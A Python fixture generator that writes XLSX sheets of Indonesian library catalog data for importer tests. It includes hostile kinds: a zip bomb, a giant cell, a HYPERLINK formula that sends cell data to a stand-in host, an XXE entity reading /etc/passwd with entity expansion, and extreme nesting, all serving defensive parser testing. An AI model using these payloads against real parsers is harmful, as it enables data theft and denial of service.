#!/usr/bin/env python3
"""Sheets for the tests, written with nothing but the standard library: write_sheets.py KIND FILE [N]

KIND: inlislite32 (two header rows), inlislite33 (one), marc5 (five columns), register, and hostile
ones: bomb, giant_cell, formula, doctype, entities, deep.
"""
import sys
import zipfile
from xml.sax.saxutils import escape

OLD = ("NO|TGL PENGADAAN|NO. INDUK|NO. BARCODE|NO.  RFID|JENIS SUMBER|NAMA SUMBER|MATA UANG|HARGA|"
       "KODE LOKASI PERPUSTAKAAN|KODE LOKASI RUANG|AKSES|KATEGORI|MEDIA|KETERSEDIAAN|"
       "NOMOR PANGGIL EKSEMPLAR|JENIS BAHAN|JUDUL UTAMA|ANAK JUDUL|PERNYATAAN TANGGUNGJAWAB|"
       "TAJUK PENGARANG|TAJUK PENGARANG BADAN KOOPERASI|PENGARANG TAMBAHAN NAMA ORANG|"
       "PENGARANG TAMBAHAN NAMA BADAN|EDISI|KOTA TERBIT|PENERBIT|TAHUN TERBIT|JUMLAH HALAMAN|DIMENSI|"
       "ISBN|ISSN|ISMN|NO DDC|NOMOR PANGGIL KATALOG|ABSTRAK|BAHASA|SUBJEK TOPIK|EDISI SERIAL|"
       "TGL TERBIT EDISI SERIAL|BAHAN SERTAAN (SERIAL)|KETERANGAN LAIN (SERIAL)").split("|")


def name(i):
    out = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        out = chr(65 + r) + out
    return out


def cell(row, i, value):
    ref = f"{name(i)}{row}"
    if isinstance(value, int):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'


def book(path, rows, sheet=None, shared=None):
    if sheet is None:
        lines = []
        for number, values in rows:
            cells = "".join(cell(number, i, v) for i, v in enumerate(values) if v != "")
            lines.append(f'<row r="{number}">{cells}</row>')
        sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxml'
                 'formats.org/spreadsheetml/2006/main"><sheetData>' + "".join(lines) +
                 "</sheetData></worksheet>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", '<workbook xmlns:r="http://r"><sheets><sheet name="A" '
                                      'sheetId="1" r:id="rId7"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships><Relationship Id="rId7" '
                                                 'Target="worksheets/data.xml"/></Relationships>')
        if shared:
            z.writestr("xl/sharedStrings.xml", shared)
        with z.open("xl/worksheets/data.xml", "w", force_zip64=True) as out:
            for part in ([sheet] if isinstance(sheet, str) else sheet):
                out.write(part.encode() if isinstance(part, str) else part)


def inlislite_row(n, **other):
    row = dict.fromkeys(OLD, "")
    row.update({
        "NO": n, "TGL PENGADAAN": "14-02-2015", "NO. INDUK": f"X{n:05}/2016",
        "NO. BARCODE": f"{n:011}", "JENIS SUMBER": "Hadiah/Hibah",
        "NAMA SUMBER": "---Belum ditentukan---", "MATA UANG": "IDR", "HARGA": 45000,
        "KODE LOKASI PERPUSTAKAAN": "Pusat", "KODE LOKASI RUANG": "0101",
        "AKSES": "Dapat dipinjam", "KATEGORI": "Koleksi Umum", "MEDIA": "Buku",
        "KETERSEDIAAN": "Tersedia", "NOMOR PANGGIL EKSEMPLAR": f"{n % 1000:03} PRA m",
        "JENIS BAHAN": "Monograf", "JUDUL UTAMA": f"Hikayat Banggai jilid {n} :",
        "ANAK JUDUL": "tjerita lama", "PERNYATAAN TANGGUNGJAWAB": "oleh Mamik Pradana",
        "TAJUK PENGARANG": "Pradana, Mamik,", "PENGARANG TAMBAHAN NAMA ORANG": "Ali, A.; Budi, B.",
        "EDISI": "Cet. 2", "KOTA TERBIT": "Loewoek :", "PENERBIT": "Grafika,",
        "TAHUN TERBIT": 1936, "JUMLAH HALAMAN": "120 hlm.", "DIMENSI": "25 cm.",
        "ISBN": f"97897900{n:05}", "NO DDC": f"{n % 1000:03}",
        "NOMOR PANGGIL KATALOG": f"{n % 1000:03} PRA m", "BAHASA": "ind",
        "SUBJEK TOPIK": "Banggai; Sejarah"})
    row.update(other)
    return [row[c] for c in OLD]


def main():
    kind, path = sys.argv[1], sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 40
    if kind in ("inlislite32", "inlislite32_bad"):
        groups = [""] * 42
        groups[1], groups[17] = "DATA EKSEMPLAR", "DATA KATALOG"
        rows = [(1, groups), (2, OLD)]
        for n in range(1, count + 1):
            bad = kind.endswith("bad") and n in (5, 17, 33)
            rows.append((n + 2, inlislite_row(n, **({"NO. INDUK": ""} if bad else {}))))
        book(path, rows)
    elif kind == "inlislite33":
        head = ["".join(c if c.isalnum() else "_" for c in h.replace(". ", "_").replace("  ", " "))
                .replace("__", "_").strip("_") for h in OLD]
        book(path, [(1, head)] + [(n + 1, inlislite_row(n)) for n in range(1, count + 1)])
    elif kind == "marc5":
        rows = [(1, ["Id Katalog", "Tag", "Ind1", "Ind2", "Nilai"])]
        at = 2
        for n in range(1, count + 1):
            for i, (tag, i1, i2, value) in enumerate([
                    ("001", "", "", f"INLIS{n:014}"), ("035", "#", "#", f"$a 0010-0926{n:06}"),
                    ("082", "#", "#", "$a 959.8"), ("100", "#", "#", "$a Pradana, Mamik"),
                    ("245", "#", "#", f"$a Banggai {n} :$b tjerita /$c Mamik Pradana"),
                    ("260", "#", "#", "$a Jakarta :$b Grafika,$c 2015"),
                    ("300", "#", "#", "$a 120 hlm. ;$c 25 cm"), ("650", "#", "4", "$a Banggai"),
                    ("990", "#", "#", f"$a {n:05}/H/2015")]):
                rows.append((at, [n if i == 0 else "", tag, i1, i2, value]))
                at += 1
        book(path, rows)
    elif kind == "register_struck":
        # As a clerk types it: a row that was struck out, files of before as folders and PDFs.
        rows = [(1, ["No. Urut", "Tanggal", "Judul", "No. Induk", "Dicoret", "Path"])]
        for n in range(1, count + 1):
            rows.append((n + 1, [n, f"{n:02}-05-2020", f"Berkas {n}" if n != 2 else "", f"{n}/2020",
                                 "ya" if n == 2 else "", {1: "lama/1", 3: "lama.pdf"}.get(n, "")]))
        book(path, rows)
    elif kind == "register":
        rows = [(1, ["BUKU INVENTARIS ALIH MEDIA 2019"]),
                (2, ["No. Urut", "Tanggal", "No. Inventaris Alih Media", "No. Induk", "Judul",
                     "Pengarang", "Penerbit, Kota, Tahun", "Jml Hal. Asli", "Kondisi", "Rak", "Path"])]
        for n in range(1, count + 1):
            rows.append((n + 2, [n, f"{n % 28 + 1:02}-03-2019", f"ALM/2019/{n:06}", f"{n}/AM/2019",
                                 f"Naskah {n}", "Adi Cokro", "Balai Pustaka, Batavia, 1936", 12,
                                 "Rusak ringan", f"B{n}", f"lama/{n}" if n <= 2 else ""]))
        book(path, rows)
    elif kind == "bomb":
        def parts():
            yield ('<worksheet><sheetData><row r="1">' +
                   "".join(cell(1, i, h) for i, h in enumerate(OLD)) + "</row>")
            for _ in range(640):
                yield b" " * (1 << 20)
        book(path, [], parts())
    elif kind == "giant_cell":
        def parts():
            yield '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
            for _ in range(1024):
                yield b"a" * (1 << 20)
            yield "</t></is></c></row></sheetData></worksheet>"
        book(path, [], parts())
    elif kind == "formula":
        sheet = ("<worksheet><sheetData>" + '<row r="1">' +
                 "".join(cell(1, i, h) for i, h in enumerate(OLD)) + "</row>" +
                 '<row r="2">' + "".join(cell(2, i, v) for i, v in enumerate(inlislite_row(1)) if v != "") +
                 '</row><row r="3"><c r="C3" t="str"><f>HYPERLINK("http://x/"&amp;A1)</f><v>X1</v></c>'
                 '<c r="R3" t="inlineStr"><is><t>Judul</t></is></c></row></sheetData></worksheet>')
        book(path, [], sheet)
    elif kind == "entities":
        book(path, [], '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">'
                       '<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1">'
                       '<c r="A1" t="inlineStr"><is><t>&x;&b;</t></is></c></row></sheetData></worksheet>')
    elif kind == "deep":
        book(path, [], "<worksheet>" + "<a>" * 100000 + "</a>" * 100000 + "</worksheet>")
    else:
        sys.exit(f"unknown kind {kind}")


main()
